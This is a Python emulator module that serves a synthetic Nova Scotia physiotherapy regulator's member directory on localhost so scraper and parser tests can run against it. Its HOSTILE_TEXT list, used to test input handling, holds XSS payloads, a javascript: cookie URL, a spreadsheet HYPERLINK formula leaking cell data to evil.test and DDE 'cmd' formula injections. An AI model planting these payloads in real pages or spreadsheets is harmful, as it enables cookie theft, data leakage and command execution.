"""The Nova Scotia physiotherapy regulator's member directory on 127.0.0.1: synthetic people.

The live register is one web page holding one static HTML table of ten columns, no paging
(docs/platforms/nsphysio.md). The regulator is the Nova Scotia Regulator of Physiotherapy since
2025-09-05, formerly the Nova Scotia College of Physiotherapists. By default the emulator serves
the page as the live site is now seen, a static Joomla article [live 2026-06-15]: Cassiopeia-like
template, menus, breadcrumbs, a decoy table of licence categories, the directory typed in the
editor (header row in the table body, `<strong>` headers, `&nbsp;` in empty cells, `<br>` between
the lines of a cell), footer. `theme="wordpress"` serves the older guess under the old name: a
WordPress theme, a TablePress table and a calendar widget's table, with curly apostrophes.
Registrants who resigned stay in the table with a Resigned Date.

Everything is a pure function of `count` and `seed`, and the page builder is a plain function of
the people, so parser tests use its bytes without a server. Run it by hand with
`python -m emulators.nsphysio --port 8766 --count 300`; `--render` prints the page instead.
"""

from __future__ import annotations

import argparse
import email.utils
import hashlib
import html
import random
import sys
import time
from collections.abc import Iterable
from dataclasses import dataclass, field, replace
from datetime import date, timedelta
from urllib.parse import unquote

from emulators.jurisdictions import NOVA_SCOTIA, NOVA_SCOTIA_NAMES
from emulators.population import (
    POSTAL_LETTERS,
    City,
    Cutter,
    day,
    draw_names,
    quota,
    spread,
)
from emulators.server import Emulator, Reply, RequestLog, serve_until_interrupted

DIRECTORY_PATH = "/for-the-public/member-directory"

# The table's header row as the register prints it [reported]; note "Licence" beside "License".
COLUMNS = (
    "Name",
    "Licence Number",
    "License Status",
    "Conditions",
    "Area of Specialty",
    "Registration Date",
    "Expiry Date",
    "Resigned Date",
    "Employer(s)",
    "Authorized Prescriber",
)

PRACTICING = "Practicing Active"  # [reported]
CONDITIONAL = "Conditional Active"  # [reported]
NON_PRACTICING = "Non-Practicing Active"  # [guess]
SUSPENDED = "Suspended"  # [guess]
# Resigned registrants keep a status beside their Resigned Date; which one is a guess, so the
# population mixes a plain "Resigned", an inactive licence, and a status never updated.
RESIGNED_STATUSES = ("Resigned", "Practicing Inactive", PRACTICING)

THEMES = ("joomla", "wordpress")
REGULATOR = "Nova Scotia Regulator of Physiotherapy"  # since 2025-09-05 [page]
FORMER_NAME = "Nova Scotia College of Physiotherapists"

# Joomla's stock robots.txt, which does not block the directory [live 2026-06-15].
ROBOTS_TXT = "User-agent: *\n" + "".join(
    f"Disallow: /{d}/\n"
    for d in (
        "administrator",
        "api",
        "bin",
        "cache",
        "cli",
        "components",
        "includes",
        "installation",
        "language",
        "layouts",
        "libraries",
        "logs",
        "modules",
        "plugins",
        "tmp",
    )
)
WORDPRESS_ROBOTS_TXT = (
    "User-agent: *\nDisallow: /wp-admin/\nAllow: /wp-admin/admin-ajax.php\n\n"
    "Sitemap: https://nsphysio.com/wp-sitemap.xml\n"
)


@dataclass(frozen=True)
class Employer:
    """One line of the Employer(s) cell, and what the register knows but does not print."""

    organization: str
    city: str  # where the employer is (the generator's truth)
    city_listed: bool  # whether the line names the city; the postal code is never listed
    postal_code: str
    style: str = ", "  # how the line joins organization and city: ", ", " - ", " (" or ", NS"

    @property
    def line(self) -> str:
        """The line as typed into the register."""
        if not self.city_listed:
            return self.organization
        if self.style == " (":
            return f"{self.organization} ({self.city})"
        if self.style == ", NS":
            return f"{self.organization}, {self.city}, NS"
        return f"{self.organization}{self.style}{self.city}"


@dataclass
class Registrant:
    """One synthetic row of the member directory."""

    licence_number: str
    family_name: str
    given_names: str
    status: str
    conditions: list[str]
    specialty: str
    registered: str  # ISO dates, as the emulator prints them [guess]
    expiry: str
    resigned: str  # "" while licensed
    employers: list[Employer] = field(default_factory=list)
    prescriber: bool = False
    city: str = ""  # where the person practises or last practised (never printed as such)

    @property
    def listed_name(self) -> str:
        """The name as the register lists it: "Surname, First"."""
        return f"{self.family_name}, {self.given_names}"

    @property
    def has_resigned(self) -> bool:
        """Resigned and not licensed again since (a later Registration Date means they returned)."""
        return bool(self.resigned) and self.resigned >= self.registered


# ---------------------------------------------------------------------------------------------
# Places


_CITIES = NOVA_SCOTIA.cities
CITIES: tuple[str, ...] = tuple(c.name for c in _CITIES)
POSTAL_PREFIXES: dict[str, tuple[str, ...]] = NOVA_SCOTIA.postal_prefixes
_HEALTH_AUTHORITY = "Nova Scotia Health"
_CHILDREN = "IWK Health"

_SPECIALTIES = (
    "Orthopaedics",
    "Orthopaedics",
    "Orthopaedics",
    "General Practice",
    "General Practice",
    "Neurology",
    "Cardiorespiratory",
    "Paediatrics",
    "Pelvic Health",
    "Sports Physiotherapy",
    "Vestibular Rehabilitation",
    "Geriatrics",
    "Orthopaedics, Acupuncture",  # a specialty named, not an authorization: nothing is read here
    "Sports Physiotherapy, Dry Needling",
    "",
)
_CONDITIONAL = (
    ["Must practise under the supervision of a registered physiotherapist"],
    [
        "Must practise under the supervision of a registered physiotherapist",
        "Expires on PCE result",
    ],
)
_CONDITIONS = (
    ["Shall not perform spinal manipulation"],
    ["Practice limited to non-clinical duties"],
    ["Shall not perform spinal manipulation", "Practice monitoring for 12 months"],
)


# ---------------------------------------------------------------------------------------------
# The generator


def nova_scotia_physiotherapists(count: int = 300, seed: int = 2026) -> list[Registrant]:
    """`count` synthetic rows of the Nova Scotia member directory, the same every time.

    The table keeps everyone ever licensed, so about 45% have resigned (a Resigned Date; most
    list no employer any more); of the rest, about 4% hold a Conditional licence (with
    conditions), 3% are Non-Practicing, 1% Suspended, 3% practise with conditions, and 1% resigned
    once and were licensed again (their old Resigned Date stays). About 20% of employer lines name
    no city ("Nova Scotia Health - Halifax Infirmary", "Self-employed"). Halifax holds a third of
    the people. The featured names come first, so every population of 20 or more holds them.
    """
    if count < 0:
        raise ValueError("count must not be negative")
    rng = random.Random(seed)
    names = draw_names(rng, NOVA_SCOTIA_NAMES, count)
    n = len(names)
    order = list(range(n))
    rng.shuffle(order)
    cut = Cutter(order)
    resigned = set(cut.take(quota(n, 0.45)))
    conditional = set(cut.take(quota(n, 0.04)))
    non_practicing = set(cut.take(quota(n, 0.03)))
    suspended = set(cut.take(quota(n, 0.01)))
    with_conditions = set(cut.take(quota(n, 0.03)))
    returned = set(cut.take(quota(n, 0.01)))

    cities = spread([c.weight for c in _CITIES], n, rng)
    registered = [day(rng, date(1978, 1, 1), date(2026, 4, 30)) for _ in range(n)]
    # Licence numbers were handed out in order of first registration.
    by_date = sorted(range(n), key=lambda i: (registered[i], i))
    numbers = {}
    next_number = 1000
    for i in by_date:
        next_number += rng.randint(1, 3)
        numbers[i] = str(next_number)

    people = []
    for i, (family, given) in enumerate(names):
        city = _CITIES[cities[i]]
        start = registered[i]
        conditions: list[str] = []
        resigned_on = ""
        if i in resigned:
            start = min(start, date(2025, 6, 1))  # licensed a while before resigning
            left = day(rng, min(start + timedelta(days=200), date(2026, 3, 1)), date(2026, 3, 1))
            resigned_on = left.isoformat()
            status = rng.choices(RESIGNED_STATUSES, (55, 30, 15))[0]
            expiry = date(left.year + (left.month > 5), 5, 31)
        else:
            expiry = date(2027, 5, 31)
            status = PRACTICING
            if i in conditional:
                status = CONDITIONAL
                start = day(rng, date(2025, 6, 1), date(2026, 4, 30))
                conditions = list(rng.choice(_CONDITIONAL))
                expiry = date(2026, 12, 31)
            elif i in non_practicing:
                status = NON_PRACTICING
            elif i in suspended:
                status = SUSPENDED
            elif i in with_conditions:
                conditions = list(rng.choice(_CONDITIONS))
            if i in returned:
                # Resigned years ago, licensed again since: the old Resigned Date stays listed.
                resigned_on = day(rng, date(2010, 1, 1), date(2018, 12, 31)).isoformat()
                start = day(rng, date(2019, 6, 1), date(2025, 12, 31))
        employers = _employers(rng, city, i in resigned, status)
        people.append(
            Registrant(
                licence_number=numbers[i],
                family_name=family,
                given_names=given,
                status=status,
                conditions=conditions,
                specialty=rng.choice(_SPECIALTIES) if status != SUSPENDED else "",
                registered=start.isoformat(),
                expiry=expiry.isoformat(),
                resigned=resigned_on,
                employers=employers,
                prescriber=not resigned_on and status == PRACTICING and rng.random() < 0.06,
                city=city.name,
            )
        )
    return people


def _employers(rng: random.Random, city: City, resigned: bool, status: str) -> list[Employer]:
    if resigned and rng.random() < 0.75:
        return []  # most who resigned list no employer any more
    if status == NON_PRACTICING and rng.random() < 0.6:
        return []
    roll = rng.random()
    count = 3 if roll < 0.04 else 2 if roll < 0.22 else 1
    out = [_employer(rng, city)]
    for _ in range(count - 1):
        other = city if rng.random() < 0.6 else NOVA_SCOTIA.weighted_city(rng)
        employer = _employer(rng, other)
        if (employer.organization, employer.city) not in {(e.organization, e.city) for e in out}:
            out.append(employer)
    return out


def _employer(rng: random.Random, city: City) -> Employer:
    local = f"{rng.randint(0, 9)}{rng.choice(POSTAL_LETTERS)}{rng.randint(0, 9)}"
    postal = f"{rng.choice(city.fsas)} {local}"
    roll = rng.random()
    if roll < 0.12 and city.hospital:
        # A hospital site: the line names the site, not the city; nothing is to be read from it.
        return Employer(f"{_HEALTH_AUTHORITY} - {city.hospital}", city.name, False, postal)
    if roll < 0.22:
        return Employer(_HEALTH_AUTHORITY, city.name, True, postal, ", ")
    if roll < 0.25 and city.name == "Halifax":
        return Employer(_CHILDREN, city.name, rng.random() < 0.5, postal, ", ")
    if roll < 0.30:
        return Employer("Self-employed", city.name, rng.random() < 0.4, postal, " - ")
    style = rng.choices((", ", " - ", " (", ", NS"), (70, 12, 10, 8))[0]
    listed = rng.random() < 0.94
    return Employer(rng.choice(city.clinics), city.name, listed, postal, style)


# ---------------------------------------------------------------------------------------------
# The page (pure functions)


def _texturize(text: str) -> str:
    """HTML-escaped text as WordPress prints it: apostrophes curled (wptexturize), `&` escaped."""
    return html.escape(text, quote=False).replace("'", "&#8217;").replace("’", "&#8217;")


def _cell(lines: Iterable[str]) -> str:
    """A cell's lines joined with `<br />`; an empty cell holds `&nbsp;`, as the editor saves it."""
    lines = [_texturize(line) for line in lines if line]
    return "<br />\n".join(lines) if lines else "&nbsp;"


def row_cells(person: Registrant) -> list[str]:
    """The HTML of one row's cells, in the order of `COLUMNS`."""
    return [
        _texturize(person.listed_name),
        person.licence_number,
        _texturize(person.status),
        _cell(person.conditions),
        _cell([person.specialty]),
        person.registered,
        person.expiry,
        person.resigned or "&nbsp;",
        _cell(e.line for e in person.employers),
        ("Yes" if person.prescriber else "No") if not person.has_resigned else "&nbsp;",
    ]


def render_table(people: Iterable[Registrant], columns: Iterable[str] = COLUMNS) -> str:
    """The member directory as a TablePress table: header row in `thead`, one `tr` a person."""
    columns = list(columns)
    head = "".join(
        f'<th class="column-{j}">{html.escape(label)}</th>' for j, label in enumerate(columns, 1)
    )
    rows = []
    for i, person in enumerate(people, 2):
        cells = "".join(
            f'<td class="column-{j}">{cell}</td>' for j, cell in enumerate(row_cells(person), 1)
        )
        rows.append(f'<tr class="row-{i}">{cells}</tr>')
    body = "\n".join(rows)
    return (
        '<table id="tablepress-7" class="tablepress tablepress-id-7">\n'
        f'<thead>\n<tr class="row-1">{head}</tr>\n</thead>\n'
        f'<tbody class="row-striping row-hover">\n{body}\n</tbody>\n</table>\n'
    )


def _sorted(people: Iterable[Registrant]) -> list[Registrant]:
    return sorted(people, key=lambda p: (p.family_name.casefold(), p.given_names.casefold()))


_PAGE_HEAD = """<!DOCTYPE html>
<html lang="en-CA">
<head>
<meta charset="UTF-8" />
<meta name="viewport" content="width=device-width, initial-scale=1" />
<title>Member Directory &#8211; Nova Scotia College of Physiotherapists</title>
<meta name="generator" content="WordPress 6.7.2" />
<link rel="https://api.w.org/" href="/wp-json/" />
<link rel="stylesheet" id="tablepress-default-css" media="all"
  href="/wp-content/plugins/tablepress/css/build/default.css?ver=3.0.4" />
<link rel="stylesheet" id="nscp-theme-css" media="all"
  href="/wp-content/themes/nscp/style.css?ver=2.3" />
<script src="/wp-includes/js/jquery/jquery.min.js?ver=3.7.1" id="jquery-core-js"></script>
</head>
<body class="page-template-default page page-id-412 wp-custom-logo">
<div id="page" class="site">
<a class="skip-link screen-reader-text" href="#primary">Skip to content</a>
<header id="masthead" class="site-header">
  <div class="site-branding">
    <a href="/" class="custom-logo-link" rel="home"><img class="custom-logo"
      src="/wp-content/uploads/2023/02/nscp-logo.png"
      alt="Nova Scotia College of Physiotherapists" /></a>
    <p class="site-description">Regulating physiotherapy in the public interest</p>
  </div>
  <nav id="site-navigation" class="main-navigation" aria-label="Primary">
    <ul id="primary-menu" class="menu">
      <li class="menu-item"><a href="/">Home</a></li>
      <li class="menu-item menu-item-has-children current-menu-ancestor">
        <a href="/for-the-public">For the Public</a>
        <ul class="sub-menu">
          <li class="menu-item current-menu-item"><a href="/for-the-public/member-directory"
            aria-current="page">Member Directory</a></li>
          <li class="menu-item"><a href="/for-the-public/concerns-and-complaints">Concerns
            &amp; Complaints</a></li>
        </ul>
      </li>
      <li class="menu-item"><a href="/for-members">For Members</a></li>
      <li class="menu-item"><a href="/registration">Registration</a></li>
      <li class="menu-item"><a href="/news">News</a></li>
      <li class="menu-item"><a href="/contact-us">Contact Us</a></li>
    </ul>
  </nav>
  <form role="search" method="get" class="search-form" action="/">
    <label><span class="screen-reader-text">Search for:</span>
    <input type="search" class="search-field" placeholder="Search &hellip;" value="" name="s" />
    </label><input type="submit" class="search-submit" value="Search" />
  </form>
</header>
<div id="content" class="site-content">
<main id="primary" class="site-main">
<article id="post-412" class="post-412 page type-page status-publish hentry">
<header class="entry-header"><h1 class="entry-title">Member Directory</h1></header>
<div class="entry-content">
<p>The Member Directory lists every physiotherapist licensed by the College, past and present.
Registrants who have resigned their licence remain listed with the date of resignation.</p>
<p class="notice">Emulated register: every person listed here is synthetic.</p>
<h2>Licence categories</h2>
<table class="wp-block-table licence-categories">
<thead><tr><th>Licence Type</th><th>Description</th></tr></thead>
<tbody>
<tr><td>Practicing</td><td>Full licence to practise physiotherapy in Nova Scotia.</td></tr>
<tr><td>Conditional</td><td>Licence with conditions, such as supervised practice.</td></tr>
<tr><td>Non-Practicing</td><td>Registered, but not practising in Nova Scotia.</td></tr>
</tbody>
</table>
<h2>Directory</h2>
"""

_WEEKDAYS = "".join(
    f'<th scope="col" aria-label="{day}">{day[0]}</th>'
    for day in ("Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday")
)

_PAGE_FOOT = f"""<script>
jQuery(function($){{ $('#tablepress-7').DataTable(
  {{"language":{{"search":"Search the directory:"}},"pageLength":25,"order":[]}}); }});
</script>
</div>
</article>
</main>
<aside id="secondary" class="widget-area">
<section id="calendar-2" class="widget widget_calendar"><h2 class="widget-title">Events</h2>
<div id="calendar_wrap" class="calendar_wrap"><table id="wp-calendar" class="wp-calendar-table">
<caption>April 2026</caption>
<thead><tr>{_WEEKDAYS}</tr></thead>
<tbody><tr><td colspan="2" class="pad">&nbsp;</td><td>1</td><td>2</td><td>3</td><td>4</td>
<td>5</td></tr></tbody>
</table></div></section>
</aside>
</div>
<footer id="colophon" class="site-footer">
  <div class="site-info">Nova Scotia College of Physiotherapists &middot;
    <a href="/privacy-policy">Privacy Policy</a></div>
</footer>
</div>
<script src="/wp-content/plugins/tablepress/js/jquery.datatables.min.js?ver=3.0.4"
  id="tablepress-datatables-js"></script>
</body>
</html>
"""


def render_joomla_table(people: Iterable[Registrant], columns: Iterable[str] = COLUMNS) -> str:
    """The member directory as typed in Joomla's editor: no `thead`, the first body row holds the
    headers in `<strong>`, apostrophes left straight, `<br>` between a cell's lines."""
    head = "".join(f"<td><strong>{html.escape(label)}</strong></td>" for label in columns)
    rows = [f"<tr>{head}</tr>"]
    for person in people:
        cells = [c.replace("&#8217;", "'").replace("<br />", "<br>") for c in row_cells(person)]
        rows.append("<tr>" + "".join(f"<td>{cell}</td>" for cell in cells) + "</tr>")
    body = "\n".join(rows)
    return (
        '<table class="table table-striped table-bordered" style="width: 100%;">\n'
        f"<tbody>\n{body}\n</tbody>\n</table>\n"
    )


def render_page(
    people: Iterable[Registrant], columns: Iterable[str] = COLUMNS, theme: str = "joomla"
) -> bytes:
    """The whole member directory page in a theme: the site around it, a decoy table, the
    directory (and, in WordPress, the calendar widget's table)."""
    if theme == "wordpress":
        table = render_table(_sorted(people), columns)
        return (_PAGE_HEAD + table + _PAGE_FOOT).encode("utf-8")
    if theme != "joomla":
        raise ValueError(f"theme must be one of {', '.join(THEMES)}")
    table = render_joomla_table(_sorted(people), columns)
    return (_JOOMLA_HEAD + table + _JOOMLA_FOOT).encode("utf-8")


_JOOMLA_MENU = "".join(
    f'<li class="nav-item item-{i}{extra}"><a href="{href}"{aria}>{label}</a></li>'
    for i, href, label, extra, aria in (
        (101, "/", "Home", "", ""),
        (140, "/for-the-public", "For the Public", " active deeper parent", ""),
        (
            142,
            "/for-the-public/member-directory",
            "Member Directory",
            " current active",
            ' aria-current="page"',
        ),
        (150, "/registrants", "Registrants", "", ""),
        (160, "/news", "News", "", ""),
        (170, "/contact", "Contact", "", ""),
    )
)

_JOOMLA_HEAD = f"""<!DOCTYPE html>
<html lang="en-gb" dir="ltr">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<meta name="generator" content="Joomla! - Open Source Content Management">
<title>Member Directory - {REGULATOR}</title>
<link href="/media/templates/site/cassiopeia/css/template.min.css?5a1b2c" rel="stylesheet">
<link href="/media/system/css/joomla-fontawesome.min.css?5a1b2c" rel="stylesheet">
<script type="application/json" class="joomla-script-options new"
  >{{"system.paths":{{"root":"","base":""}}}}</script>
<script src="/media/system/js/core.min.js?5a1b2c"></script>
</head>
<body class="site com_content wrapper-static view-article no-layout no-task itemid-142">
<header class="header container-header full-width">
  <div class="grid-child">
    <div class="navbar-brand"><a class="brand-logo" href="/"><img loading="eager" decoding="async"
      src="/images/logos/nsrpt-logo.png" alt="{REGULATOR}" width="320" height="80"></a></div>
  </div>
  <div class="grid-child container-nav">
    <ul class="mod-menu mod-list nav ">{_JOOMLA_MENU}</ul>
    <div class="container-search"><form class="mod-finder js-finder-searchform form-search"
      action="/search" method="get" role="search"><label for="mod-finder-searchword"
      class="visually-hidden finder">Search</label><input type="text" name="q"
      id="mod-finder-searchword" class="js-finder-search-query form-control" value=""
      placeholder="Search ..."></form></div>
  </div>
</header>
<div class="site-grid">
<div class="grid-child container-component">
<nav class="mod-breadcrumbs__wrapper" aria-label="Breadcrumbs">
  <ol class="mod-breadcrumbs breadcrumb px-3 py-2">
    <li class="mod-breadcrumbs__item breadcrumb-item"><a href="/" class="pathway"
      ><span>Home</span></a></li>
    <li class="mod-breadcrumbs__item breadcrumb-item"><a href="/for-the-public" class="pathway"
      ><span>For the Public</span></a></li>
    <li class="mod-breadcrumbs__item breadcrumb-item active"><span>Member Directory</span></li>
  </ol>
</nav>
<main>
<div class="com-content-article item-page" itemscope itemtype="https://schema.org/Article">
<meta itemprop="inLanguage" content="en-GB">
<div class="page-header"><h1 itemprop="headline">Member Directory</h1></div>
<div itemprop="articleBody" class="com-content-article__body">
<p>The {REGULATOR} (formerly the {FORMER_NAME}) publishes this directory so that the public
can verify a physiotherapist's licence.</p>
<p class="notice">Emulated register: every person listed here is synthetic.</p>
<h3>Licence categories</h3>
<table class="table">
<tbody>
<tr><td><strong>Licence Type</strong></td><td><strong>Description</strong></td></tr>
<tr><td>Practicing</td><td>Full licence to practise physiotherapy in Nova Scotia.</td></tr>
<tr><td>Conditional</td><td>Licence with conditions, such as supervised practice.</td></tr>
</tbody>
</table>
<h3>Directory</h3>
"""

_JOOMLA_FOOT = f"""</div>
</div>
</main>
</div>
</div>
<footer class="container-footer footer full-width">
<div class="grid-child"><div class="mod-custom custom"><p>&copy; 2026 {REGULATOR} &middot;
<a href="/privacy">Privacy</a></p></div></div>
</footer>
<a href="#top" id="back-top" class="back-to-top-link" aria-label="Back to Top">
<span class="icon-arrow-up icon-fw" aria-hidden="true"></span></a>
</body>
</html>
"""


def _error_page(status: int, title: str) -> Reply:
    body = (
        f'<!DOCTYPE html>\n<html lang="en-gb"><head><title>{title} - {REGULATOR}</title></head>'
        f"<body><h1>{title}</h1></body></html>\n"
    )
    return Reply(status, body.encode("utf-8"))


# ---------------------------------------------------------------------------------------------
# The server


# ---------------------------------------------------------------------------------------------
# The hostile register: what a compromised or careless register could hold


HOSTILE_TEXT = (
    "<script>alert('name')</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(document.cookie)",
    '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTab=1+1",
    "\rReturn=1+1",
    "Nul\x00Byte\x07Bell\x1bEscape",
    "\u202eevil\u202c override",
    "\u2067isolated\u2069 and \u200bzero\u200dwidth\ufeff",
    "Semi;=1+1,=2+2",
    "A" * 1_500,  # long and unbroken, yet within what the importer stores (db/load.py)
)


def hostile_physiotherapists(count: int = 40, seed: int = 2026) -> list[Registrant]:
    """The usual population, but its first len(HOSTILE_TEXT) people carry hostile text: markup,
    broken attributes, `javascript:` URLs, control characters, bidirectional overrides,
    zero-width characters, a 1,500-character string and spreadsheet formulas, in the name, the
    given names, the conditions, the specialty and the employer (organization, and every other
    one's city; the rest are in Halifax)."""
    people = nova_scotia_physiotherapists(max(count, len(HOSTILE_TEXT)), seed)
    out = []
    for i, person in enumerate(people):
        if i >= len(HOSTILE_TEXT):
            out.append(person)
            continue
        text = HOSTILE_TEXT[i]
        other = HOSTILE_TEXT[(i + 3) % len(HOSTILE_TEXT)]
        out.append(
            replace(
                person,
                family_name=text,
                given_names=other,
                status=PRACTICING,
                resigned="",
                conditions=[other],
                specialty=text,
                employers=[Employer(f"{other} Clinic", "Halifax" if i % 2 else text, True, "B3H")],
                city="Halifax",
            )
        )
    return out[:count] if count >= len(HOSTILE_TEXT) else out


class NSPhysioEmulator(Emulator):
    """The member directory on 127.0.0.1 serving `people`; see the module docstring.

    `columns` replaces the header row (a renamed or missing column), `theme` picks the page
    around it (`THEMES`), `etags` sends `ETag` and `Last-Modified` and answers conditional requests
    with 304, as a page cache in front of the CMS does.
    """

    name = "nsphysio-emulator"
    error_content_type = "text/html; charset=UTF-8"

    def __init__(
        self,
        people: list[Registrant],
        *,
        robots_txt: str | None = ROBOTS_TXT,
        columns: Iterable[str] = COLUMNS,
        theme: str = "joomla",
        etags: bool = True,
        port: int = 0,
    ) -> None:
        if theme not in THEMES:
            raise ValueError(f"theme must be one of {', '.join(THEMES)}")
        self.robots_txt = robots_txt
        self.columns = list(columns)
        self.theme = theme
        self.etags = etags
        super().__init__(port)
        self._people: list[Registrant] = []
        self._modified = 0.0
        self.set_people(people)

    # -- control ------------------------------------------------------------------------------

    @property
    def people(self) -> list[Registrant]:
        with self._lock:
            return list(self._people)

    def set_people(self, people: Iterable[Registrant]) -> None:
        """Replace the register's content; later requests see the new table."""
        people = list(people)
        with self._lock:
            self._people = people
            self._modified = time.time()

    # -- answering (called by the server's handler) ---------------------------------------------

    def _server_error(self) -> Reply:
        return _error_page(500, "Internal Server Error")

    def _route(self, request: RequestLog) -> Reply:
        path = unquote(request.path).lower()
        if request.method not in ("GET", "HEAD"):
            return _error_page(405, "Method Not Allowed")
        if path == "/robots.txt" and self.robots_txt is not None:
            return Reply(200, self.robots_txt.encode("utf-8"), "text/plain; charset=utf-8")
        if path in (DIRECTORY_PATH, DIRECTORY_PATH + "/"):
            return self._directory(request)
        return _error_page(404, "Page not found")

    def _directory(self, request: RequestLog) -> Reply:
        with self._lock:
            people, modified = self._people, self._modified
        body = render_page(people, self.columns, self.theme)
        if not self.etags:
            return Reply(200, body)
        etag = '"' + hashlib.sha256(body).hexdigest()[:32] + '"'
        headers = {"ETag": etag, "Last-Modified": email.utils.formatdate(modified, usegmt=True)}
        if request.headers.get("if-none-match") == etag:
            return Reply(304, b"", "text/html; charset=UTF-8", headers)
        return Reply(200, body, "text/html; charset=UTF-8", headers)


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(
        prog="python -m emulators.nsphysio",
        description="Serve a synthetic Nova Scotia member directory on 127.0.0.1 until Ctrl-C.",
    )
    parser.add_argument("--port", type=int, default=8766, help="port (0 for any free one)")
    parser.add_argument("--count", type=int, default=300, help="number of synthetic people")
    parser.add_argument("--seed", type=int, default=2026, help="seed of the population")
    parser.add_argument("--theme", choices=THEMES, default="joomla", help="the page around it")
    parser.add_argument(
        "--render", action="store_true", help="print the page to stdout instead of serving it"
    )
    args = parser.parse_args(argv)
    people = nova_scotia_physiotherapists(args.count, args.seed)
    if args.render:  # how the pages in tests/fixtures/nsphysio/ were made
        sys.stdout.buffer.write(render_page(people, theme=args.theme))
        return
    robots = ROBOTS_TXT if args.theme == "joomla" else WORDPRESS_ROBOTS_TXT
    serve_until_interrupted(
        NSPhysioEmulator(people, theme=args.theme, robots_txt=robots, port=args.port),
        DIRECTORY_PATH,
    )


if __name__ == "__main__":
    main()
